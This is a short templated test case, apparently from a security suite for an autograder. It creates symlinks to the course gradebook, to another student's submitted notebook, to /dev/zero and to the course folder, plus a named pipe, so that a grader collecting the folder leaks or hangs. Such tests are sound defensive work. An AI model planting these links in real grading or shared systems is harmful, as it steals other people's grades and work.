# Tries: puts links to the gradebook, to /etc and to /dev/zero, pipes and device nodes beside the
#   notebook, for a grader that collects or copies the folder afterwards.
# Kind: theft
# Stock: no

# %% last
import os

for name, target in (
    ("book.db", "@course@/course/gradebook.db"),
    ("dinosaur_land.ipynb", "@course@/course/submitted/@victim@/dinosaur_land/dinosaur_land.ipynb"),
    ("endless", "/dev/zero"),
    ("folder", "@course@"),
):
    try:
        if os.path.lexists(name):
            os.unlink(name)
        os.symlink(target, name)
    except OSError as error:
        print(error)
try:
    os.mkfifo("pipe")
except OSError as error:
    print(error)
